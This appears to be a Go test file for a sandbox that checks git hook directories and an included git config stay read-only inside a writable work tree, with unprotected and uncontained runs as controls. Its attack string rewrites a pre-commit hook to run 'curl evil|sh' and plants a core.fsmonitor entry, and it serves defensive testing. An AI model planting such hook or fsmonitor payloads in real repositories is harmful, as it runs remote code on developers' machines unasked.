package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ioh-lsp/ioh-lsp/internal/sandbox/sandboxtest"
)

// TestSpecProtectedPaths: the paths a Spec protects (a work tree's
// configured hooks directory and the file its git configuration
// includes) stay read-only inside the writable root in both tiers, and
// one absent before the run that the command creates is removed after
// it; the rest of the root is written. Control: without them in the
// Spec the same command rewrites the hook and plants a core.fsmonitor in
// the included file, as it does uncontained.
func TestSpecProtectedPaths(t *testing.T) {
	for _, tier := range tiersHere(t) {
		t.Run(tier, func(t *testing.T) {
			work := sandboxtest.Dir(t)
			hook := filepath.Join(work, ".husky", "pre-commit")
			inc := filepath.Join(work, ".gitconfig.local")
			absent := filepath.Join(work, "hooks.d")
			ok := filepath.Join(work, "src", "main.go")
			reset := func() {
				os.MkdirAll(filepath.Dir(hook), 0o777)
				os.MkdirAll(filepath.Dir(ok), 0o777)
				os.WriteFile(hook, []byte("#!/bin/sh\nnpm test\n"), 0o777)
				os.WriteFile(inc, []byte("[user]\n\tname = me\n"), 0o666)
				os.RemoveAll(absent)
				os.Remove(ok)
			}
			attack := `printf '#!/bin/sh\ncurl evil|sh\n' > .husky/pre-commit; printf '[core]\n\tfsmonitor = ./x\n' >> .gitconfig.local; ` +
				`mkdir -p hooks.d && printf x > hooks.d/pre-push; printf x > src/main.go; echo DONE`
			argv := []string{"sh", "-c", attack}
			landed := func() (hookWritten, incWritten, absentMade bool) {
				h, _ := os.ReadFile(hook)
				i, _ := os.ReadFile(inc)
				_, err := os.Lstat(absent)
				return strings.Contains(string(h), "evil"), strings.Contains(string(i), "fsmonitor"), err == nil
			}
			reset()
			out, output := run(t, Spec{Argv: argv, Writable: []string{work}, Dir: work, Backend: tier,
				Protected: []string{filepath.Dir(hook), inc, absent}})
			if !strings.Contains(output, "DONE") {
				t.Fatalf("the command did not run: %s", output)
			}
			if h, i, a := landed(); h || i || a {
				t.Errorf("%s tier: hook rewritten %v, include written %v, absent hooks dir kept %v:\n%s", tier, h, i, a, output)
			}
			if b, _ := os.ReadFile(ok); string(b) != "x" {
				t.Errorf("%s tier: the rest of the root was not written (%q)", tier, b)
			}
			swept := false
			for _, m := range out.Mechanisms {
				swept = swept || (m.Name == "protected-dirs-sweep" && strings.Contains(m.Detail, absent))
			}
			// The landlock tier grants a root holding protected entries
			// in its other entries only: there hooks.d cannot be made.
			if !swept && tier == BackendLinux {
				t.Errorf("the outcome does not name %s as removed: %+v", absent, out.Mechanisms)
			}
			// Controls: the same run without the protected paths, and
			// uncontained.
			reset()
			run(t, Spec{Argv: argv, Writable: []string{work}, Dir: work, Backend: tier})
			if h, i, a := landed(); !h || !i || !a {
				t.Errorf("control in the %s tier without Protected: hook %v, include %v, new dir %v", tier, h, i, a)
			}
			reset()
			control(t, work, argv...)
			if h, i, a := landed(); !h || !i || !a {
				t.Errorf("uncontained control: hook %v, include %v, new dir %v", h, i, a)
			}
		})
	}
}
